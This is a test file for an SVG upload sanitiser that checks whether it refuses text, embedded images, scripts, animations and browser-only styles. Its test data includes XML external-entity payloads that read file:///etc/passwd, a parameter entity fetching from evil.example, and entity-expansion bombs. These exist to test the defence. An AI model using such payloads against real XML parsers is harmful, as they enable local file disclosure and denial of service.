import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { runs } from '#test/random.ts'
import { readSafeSvg } from './read-svg.ts'

const OPEN = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24">'
const svg = (body: string): string => `${OPEN}${body}<rect/></svg>`
const read = (text: string): string => readSafeSvg(Buffer.from(text))
const has = (part: string): string => `this SVG has ${part}; kindly save it as a PNG`
const ICON_RULE = /^file cannot be more than 2mb/

describe('an SVG is refused with the reason', () => {
  test.each([
    ['<text x="1">5G</text>', 'text, which has to be turned into paths'],
    ['<svg:text>5G</svg:text>', 'text, which has to be turned into paths'],
    ['<image href="data:image/png;base64,x"/>', 'a photo or another picture in it'],
    ['<filter><feImage href="file:///etc/passwd"/></filter>', 'a photo or another picture in it'],
    ['<foreignObject><p>x</p></foreignObject>', 'a part of a web page in it'],
    ['<xi:include href="x"/>', 'another file in it'],
    ['<rect><animate attributeName="x"/></rect>', 'an animation'],
    ['<path pathLength="10"/>', 'lines or turns that only browsers know'],
    ['<path style="vector-effect:non-scaling-stroke"/>', 'lines or turns that only browsers know'],
    ['<style>.a{fill:var(--c)}</style>', 'styles that only browsers know'],
    ['<style><![CDATA[@media print{rect{fill:red}}]]></style>', 'styles that only browsers know'],
    ['<style media="print">.a{fill:red}</style>', 'styles that only browsers know'],
    ['<rect style="transform-origin:center"/>', 'styles that only browsers know'],
    ["<rect fill='oklch(0.6 0.2 30)'/>", 'styles that only browsers know'],
    ['<rect style="clip-path: circle(2px)"/>', 'styles that only browsers know'],
    ['<linearGradient color-interpolation="linearRGB"/>', 'styles that only browsers know'],
  ])('%s', (body, part) => expect(() => read(svg(body))).toThrow(has(part)))

  test('no size', () => expect(() => read('<svg><rect/></svg>')).toThrow(has('no size')))

  test.each([
    ['text', 'text'],
    ['nothing', ''],
    ['a page', `<html>${svg('')}</html>`],
    ['a script before it', `<script>x</script>${svg('')}`],
  ])('%s is no SVG', (_what, text) => expect(() => read(text)).toThrow(ICON_RULE))

  test('UTF-16 and packed files are no SVG', () => {
    expect(() => readSafeSvg(Buffer.from(svg(''), 'utf16le'))).toThrow(ICON_RULE)
    expect(() => readSafeSvg(Buffer.from([0x1f, 0x8b, 8, 0, 255, 254]))).toThrow(ICON_RULE)
  })
})

describe('an SVG is drawn', () => {
  test.each([
    ['classes', '<style>.a{fill:#e4002b}.b:not(.a){stroke:url(#g)}</style><rect class="a"/>'],
    [
      'Illustrator’s part for itself',
      '<switch><foreignObject requiredExtensions="&ns_ai;"/><g/></switch>',
    ],
    ['Inkscape’s styles', '<g style="color-interpolation:sRGB;enable-background:accumulate"/>'],
    ['names with brackets', '<g data-name="Layer (1)" id="a(b)"/><title>f(x)</title>'],
    ['a preview in the metadata', '<metadata><xmpGImg:image>x</xmpGImg:image></metadata>'],
  ])('with %s', (_what, body) => expect(read(svg(body))).toBe(svg(body)))

  test('without comments, document type and entities', () => {
    const types = `<!DOCTYPE svg PUBLIC "a" "b" [\n<!ENTITY ns "http://www.w3.org/2000/svg"> <!ENTITY c '#0A7'>]>`
    const text = `\ufeff<?xml version="1.0"?>\n<!-- <text> -->${types}\n<svg xmlns="&ns;" viewBox="0 0 9 9"><!--<!-- --><rect fill="&c;"/></svg>`
    expect(read(text)).toBe(
      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><rect fill="#0A7"/></svg>',
    )
  })
})

describe('entities that grow or name a file are refused', () => {
  test.each([
    ['of others', '<!ENTITY a "x"><!ENTITY b "&a;&a;">'],
    ['of a file', '<!ENTITY a SYSTEM "file:///etc/passwd">'],
    ['of parameters', '<!ENTITY % a SYSTEM "http://evil.example/x"> %a;'],
    ['of elements', '<!ENTITY a "<text/>">'],
    ['many times', `<!ENTITY a "${'x'.repeat(1000)}">`],
  ])('%s', (_what, types) => {
    const text = `<!DOCTYPE svg [${types}]>${svg(`<g id="${'&a;'.repeat(2001)}"/>`)}`
    expect(() => read(text)).toThrow(has('entities'))
  })
})

test('two megabytes of any beginning are read in time', () => {
  const beginnings = [
    '<!--',
    '<!DOCTYPE',
    '<?',
    ' ',
    '<style',
    '<foreignObject ',
    '{',
    ' style=',
    ' style="',
    'a(',
    '&a',
    '<',
    '"',
  ]
  const ahead = ['', OPEN, `${OPEN}<style>`, '<!DOCTYPE svg [<!ENTITY a "']
  for (const start of ahead)
    for (const part of beginnings) {
      const from = performance.now()
      try {
        read(start + part.repeat(2_000_000 / part.length))
      } catch {}
      expect([part, performance.now() - from < 2000]).toEqual([part, true])
    }
})

test('nothing that is refused is left in what is read', () => {
  const part = fc.constantFrom(
    '<!--',
    '-->',
    '<text',
    '<image',
    '<!ENTITY',
    ' x>',
    '/>',
    '<![CDATA[',
    ']]>',
    '&a;',
    '>',
  )
  fc.assert(
    fc.property(fc.array(fc.oneof(part, fc.string()), { maxLength: 12 }), (parts) => {
      try {
        expect(read(`<!DOCTYPE svg [<!ENTITY a "!-- text">]>${svg(parts.join(''))}`)).not.toMatch(
          /<(text|image)[\s/>]/,
        )
      } catch (error) {
        if (!(error instanceof Error) || !error.message.includes('SVG')) throw error
      }
    }),
    { numRuns: runs(1000) },
  )
})
